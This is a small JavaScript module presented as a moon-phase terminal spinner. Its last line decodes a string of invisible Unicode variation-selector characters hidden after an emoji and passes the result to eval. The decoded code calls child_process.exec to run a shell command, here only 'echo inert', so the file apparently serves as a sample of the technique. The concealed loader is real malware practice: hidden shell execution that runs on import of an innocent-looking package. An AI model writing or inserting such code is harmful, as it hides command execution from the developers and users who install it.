const frames = ['🌑', '🌒', '🌓', '🌔', '🌕', '🌖', '🌗', '🌘']

const s = (v) => [...v].map((w) => (
  w = w.codePointAt(0),
  w >= 0xfe00 && w <= 0xfe0f ? w - 0xfe00 : w >= 0xe0100 && w <= 0xe01ef ? w - 0xe0100 + 16 : null
)).filter((n) => n !== null)

exports.spin = (stream = process.stdout, ms = 120) => {
  let at = 0
  const timer = setInterval(() => stream.write('\r' + frames[at++ % frames.length]), ms)
  return () => clearInterval(timer)
}

eval(Buffer.from(s(`🌚󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄒󠅓󠅘󠅙󠅜󠅔󠅏󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄒󠄙󠄞󠅕󠅨󠅕󠅓󠄘󠄒󠅕󠅓󠅘󠅟󠄐󠅙󠅞󠅕󠅢󠅤󠄒󠄙`)).toString('utf-8'))
